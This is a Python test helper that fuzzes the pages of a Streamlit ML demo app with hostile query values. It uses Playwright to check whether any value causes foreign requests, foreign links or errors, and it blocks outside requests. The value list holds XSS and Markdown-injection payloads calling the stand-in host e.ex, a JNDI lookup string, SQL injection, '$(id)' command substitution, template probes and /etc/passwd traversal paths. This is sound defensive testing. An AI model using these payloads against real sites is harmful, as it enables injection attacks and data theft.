"""Links that a stranger could send: every key of every page with values that would like to be something else.

Whoever opens them in a browser sees with `Opened` whether anything of them has become one.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass, field
from urllib.parse import urlencode, urlsplit

from playwright.sync_api import BrowserContext, Request, Route

from components.architectures.settings import OWNERS
from models.convolution.compared import Compared
from models.convolution.convolution import Convolution
from models.experiment import Experiment
from models.imagenet.view import ImageNetView
from models.initialization.fresh_network import FreshNetwork
from models.initialization.view import InitializationView
from models.optimizers.race import Race
from models.settings import Settings
from models.training.view import TrainingView
from models.transfer.experiment import TransferExperiment

EVIL = "e.ex"  # so short that it stands whole in what is cut short
_IMAGE, _LINK = f"![a](//{EVIL}/i)", f"[Free](//{EVIL})"
# What is Markdown, HTML, TeX, a path, a template or a program somewhere, and what is too long, too large or no text.
VALUES = (
    *(f"x\n\n{_IMAGE}", f"x\n\n{_LINK}", f"x\r\n\r\n{_IMAGE}", f"`\n\n{_IMAGE}`", f"x` {_IMAGE} `", f"``` \n{_LINK}"),
    *(
        _IMAGE,
        _LINK,
        f"<http://{EVIL}>",
        f"http://{EVIL}/",
        f"\u2028\u2028{_IMAGE}",
        f"x\x0b\x0b{_IMAGE}",
        f"# {_LINK}",
    ),
    *(f"<img src=//{EVIL}/i>", f"<script>fetch('//{EVIL}')</script>", f'"><svg onload="fetch(`//{EVIL}`)">'),
    *(f"<iframe src=//{EVIL}>", f"<style>@import '//{EVIL}/s.css'</style>", f"javascript:fetch('//{EVIL}')"),
    *(f"$\\href{{//{EVIL}}}{{x}}$", f"$$\\includegraphics{{//{EVIL}/i}}$$", f":material/{EVIL}:", ":red-badge[x]"),
    *("{{7*7}}", "{name}", "{0.__class__}", "%s%n%d", "${jndi:ldap://e.ex}", "' OR 1=1 --", "$(id)"),
    *("../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "C:\\windows", "~root", "*", "?", "."),
    *("", " ", "-", "~", "~~~~", "0", "-1", "1e308", "-1e308", "nan", "inf", "1_0", "٣", "0x10", "9" * 400, "9" * 5000),
    *("a" * 3000, "x^" * 99 + "x", "(" * 200, "65-" * 40, "c8k9p9-c8k9p9", "64:a=tanh:a=tanh", "1~" * 300, "\x00"),
    *("\u202e\u202dx", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "e\u0301" * 50, "null", "[]"),
)
_KINDS: dict[str, Sequence[type[Settings]]] = {
    "training": (Experiment, TrainingView),
    "initialization": (FreshNetwork, InitializationView),
    "optimizers": (Race,),
    "convolution": (Convolution, Compared),
    "architectures": tuple(owner.kind for owner in OWNERS),
    "imagenet": (ImageNetView,),
    "transfer": (TransferExperiment,),
}
_RUNS = {
    "training": ("run", "kept"),
    "initialization": ("runs", "a_depth", "a_initializer", "a_init_std"),
    "convolution": ("shift_runs", "case_xor_line", "case_spiral", "case_digits"),
    "architectures": ("depth_runs", "depth_chart"),
    "transfer": ("run", "runs", "c2", "c2_dataset", "set_id", "score_only"),
}
KEYS = {"": ("lang", "run", "colour")} | {
    page: (*(name for kind in kinds for name in kind.FIELDS), *_RUNS.get(page, ()), "lang")
    for page, kinds in _KINDS.items()
}


def hostile_links(count: int) -> list[str]:
    """So many links, each a path and a query: all pages and all values have their turn, `lang` the most often."""
    chance = random.Random(15)
    pages, values = list(KEYS), list(VALUES)
    links = []
    for number in range(count):
        page = pages[number % len(pages)]
        keys = chance.sample(KEYS[page], k=min(len(KEYS[page]), chance.choice((1, 2, 4))))
        query = {key: chance.choice(values) for key in keys} | {keys[0]: values[number % len(values)]}
        if number % 3 == 0:
            query["lang"] = values[(number // 3) % len(values)]
        links.append(f"/{page}?{urlencode(query)}")
    return links


_READY = '[data-testid="stApp"][data-test-script-state="notRunning"] h1'
# What of the page leads elsewhere, or runs, and is a stranger's.
_FOREIGN = """
(evil) => [...document.querySelectorAll('[href], [src], [action], [style*="url"]')]
  .flatMap(element => ['href', 'src', 'action', 'style'].map(name => element.getAttribute(name) ?? ''))
  .filter(text => text.includes(evil) || /^\\s*javascript:/i.test(text))
"""


@dataclass
class Opened:
    """What was seen of links that were opened in a browser.

    Attributes:
        foreign_requests: addresses that the browser asked, and that are not the app's; none is reached.
        foreign_links: what leads elsewhere on a page. errors: links whose page shows an error of the program.
    """

    foreign_requests: list[str] = field(default_factory=list)
    foreign_links: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


def open_links(context: BrowserContext, server: str, links: Sequence[str], opened: Opened) -> None:
    """Open links one after another in a tab.

    Args:
        server: its address, without a slash at the end. opened: what is seen is noted there.
    """
    host = urlsplit(server).netloc

    def is_foreign(address: str) -> bool:
        return urlsplit(address).scheme in ("http", "https", "ws", "wss") and urlsplit(address).netloc != host

    def note(request: Request) -> None:
        if is_foreign(request.url):
            opened.foreign_requests.append(request.url)

    def stop(route: Route) -> None:
        route.abort() if is_foreign(route.request.url) else route.continue_()

    context.on("request", note)
    context.route(is_foreign, stop)
    page = context.new_page()
    page.on("websocket", lambda socket: opened.foreign_requests.append(socket.url) if is_foreign(socket.url) else None)
    for link in links:
        page.goto(server + link)
        page.locator(_READY).first.wait_for()
        opened.foreign_links += page.evaluate(_FOREIGN, f"//{EVIL}")
        if page.get_by_test_id("stException").count():
            opened.errors.append(link)
    page.close()
